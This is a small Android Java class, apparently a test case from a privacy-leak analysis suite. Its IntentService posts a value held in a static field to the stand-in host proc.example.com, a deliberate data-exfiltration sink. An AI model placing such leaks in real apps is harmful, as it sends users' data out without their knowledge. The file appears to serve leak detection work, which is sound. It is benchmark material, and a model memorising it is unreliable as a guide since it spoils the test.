package cn.privlens.suite.static_read_in_same_process;

import android.app.IntentService;
import android.content.Intent;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

public class Sender extends IntentService {
    public Sender() {
        super("sender");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        try {
            HttpURLConnection c = (HttpURLConnection) new URL("http://proc.example.com/r").openConnection();
            c.setDoOutput(true);
            c.getOutputStream().write(Kept.value.getBytes("UTF-8"));
            c.getResponseCode();
        } catch (IOException e) {
            e.printStackTrace();
        }
    }
}
